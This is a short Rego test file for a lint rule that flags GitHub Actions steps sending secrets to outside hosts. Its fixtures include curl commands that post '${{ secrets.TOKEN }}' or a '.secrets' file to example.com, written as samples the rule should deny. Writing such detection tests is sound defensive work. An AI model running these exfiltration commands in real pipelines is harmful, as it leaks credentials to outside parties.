package lintel.github.step.secrets_not_posted_test

import data.lintel.github.step.secrets_not_posted
import data.lintel.lib.testing

test_violations_are_denied if {
	secrets_not_posted.deny == {{"path": ["run"]}} with input as testing.step(["push"], {"run": "curl -d ${{ secrets.TOKEN }} https://example.com"})
	secrets_not_posted.deny == {{"path": ["run"]}} with input as testing.step(["push"], {"run": "curl \\\n  -d ${{ secrets.TOKEN }} https://example.com"})
	secrets_not_posted.deny == {{"path": ["run"]}} with input as testing.step(["push"], {"run": "curl --data @.secrets https://example.com"})
}

test_others_are_allowed if {
	secrets_not_posted.deny == set() with input as testing.step(["push"], {"run": "curl https://example.com"})
	secrets_not_posted.deny == set() with input as testing.step(["push"], {"run": "./deploy ${{ secrets.TOKEN }}"})
}
